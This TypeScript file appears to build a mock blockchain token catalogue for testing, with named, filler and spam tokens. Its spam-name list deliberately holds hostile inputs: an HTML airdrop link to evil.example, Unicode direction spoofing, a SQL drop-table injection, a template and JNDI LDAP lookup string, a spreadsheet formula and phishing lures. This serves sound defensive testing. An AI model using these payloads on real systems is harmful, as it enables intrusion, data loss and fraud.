// The tokens of the chain: five with well-known names, a rotating band of spam, and others that only fill the lists.
import { TOKENS } from '../names.ts';
import { drawHex, PURPOSE } from './draw.ts';

export const TOKEN_TYPES = ['ERC-20', 'ERC-721', 'ERC-1155', 'ERC-404', 'ERC-7984'] as const;
type TokenType = (typeof TOKEN_TYPES)[number];

export interface TokenBase {
  readonly address: string;
  readonly name: string | null;
  readonly symbol: string | null;
  /** Null for collections of pieces. */
  readonly decimals: number | null;
  readonly type: TokenType;
  /** Price in millionths of a dollar; null = no price is known. */
  readonly rate: bigint | null;
  /** In the smallest unit. */
  readonly supply: bigint;
  /** The number of spam tokens before this one, for the rotating band. */
  readonly spam?: number;
  /** Number of the token among all: part of the ids of holdings. */
  readonly rank: number;
  readonly bridged?: Bridged;
}

interface Bridged {
  readonly bridge_type: 'omni' | 'amb';
  readonly foreign_address: string;
  readonly origin_chain_id: string;
}

export const ROTATING = 64;
const OTHERS = 40;
const RANK = { spam: 1000, others: 100 };

const UNIT = 10n ** 18n;

const NAMED: readonly TokenBase[] = [
  {
    address: TOKENS.USDC,
    name: 'USD Coin',
    symbol: 'USDC',
    decimals: 6,
    type: 'ERC-20',
    rate: 1_000_000n,
    supply: 45_000_000_000n * 1_000_000n,
    rank: 1,
    bridged: { bridge_type: 'omni', foreign_address: `0x${'c0ffee'.padEnd(40, '1')}`, origin_chain_id: '1' },
  },
  token('ACME', 'ACME Protocol', 'ERC-20', 18, 2_345_678n, 100_000_000n * UNIT, 2),
  token('SPAM', 'Totally Free Rewards', 'ERC-20', 18, null, 777_777_777n * UNIT, 3),
  token('BADGE', 'Badges of Honour', 'ERC-721', null, null, 4096n, 4),
  token('ITEMS', 'Items of the Realm', 'ERC-1155', null, null, 1_000_000n, 5),
];

function token(
  symbol: keyof typeof TOKENS,
  name: string,
  type: TokenType,
  decimals: number | null,
  rate: bigint | null,
  supply: bigint,
  rank: number,
): TokenBase {
  return { address: TOKENS[symbol], name, symbol, decimals, type, rate, supply, rank };
}

/** Names that strangers give their tokens: readers must cope with all of them. */
const SPAM_NAMES: readonly (readonly [name: string | null, symbol: string | null])[] = [
  ['Visit usdc-rewards.example to claim 5000 USDC', '$CLAIM'],
  ['USD Coin', 'USDC'],
  ['<b>FREE</b> <a href="https://evil.example">airdrop</a>', 'FREE'],
  ['\u202eNIOC DSU', 'CDSU\u200b'],
  ['ACME Protocol (old, please migrate at https://acme-migrate.example)', 'ACME'],
  [null, null],
  ["'; drop table tokens; --", 'DROP'],
  ['{{ constructor }} ${jndi:ldap://evil.example}', '=1+1'],
];

/** All tokens that exist from the start. Only the five well-known addresses do not depend on the seed. */
export function createCatalogue(seed: number): { named: readonly TokenBase[]; spam: TokenBase[]; others: TokenBase[] } {
  const spam = Array.from({ length: ROTATING }, (_, number) => spamToken(seed, number));
  const others = Array.from({ length: OTHERS }, (_, number) => otherToken(seed, number));
  return { named: NAMED, spam, others };
}

function spamToken(seed: number, number: number): TokenBase {
  const [name, symbol] = SPAM_NAMES[number % SPAM_NAMES.length] ?? [null, null];
  return {
    address: `0x${drawHex(seed, PURPOSE.token, RANK.spam + number, 0, 5)}`,
    name: name === null ? null : `${name}${number < SPAM_NAMES.length ? '' : ` #${number}`}`,
    symbol,
    decimals: 18,
    type: 'ERC-20',
    rate: null,
    supply: 10n ** 27n,
    spam: number,
    rank: RANK.spam + number,
  };
}

const OTHER_TYPES: readonly TokenType[] = ['ERC-20', 'ERC-20', 'ERC-20', 'ERC-721', 'ERC-1155', 'ERC-404', 'ERC-7984'];

function otherToken(seed: number, number: number): TokenBase {
  const type = OTHER_TYPES[number % OTHER_TYPES.length] ?? 'ERC-20';
  const hasDecimals = type !== 'ERC-721' && type !== 'ERC-1155';
  return {
    address: `0x${drawHex(seed, PURPOSE.token, RANK.others + number, 0, 5)}`,
    name: `Token ${number}`,
    symbol: `T${number}`,
    decimals: hasDecimals ? (number % 3 === 0 ? 8 : 18) : null,
    type,
    rate: type === 'ERC-20' && number % 2 === 0 ? BigInt(50_000 + number * 7919) : null,
    supply: hasDecimals ? 10n ** 24n : 10_000n,
    rank: RANK.others + number,
  };
}
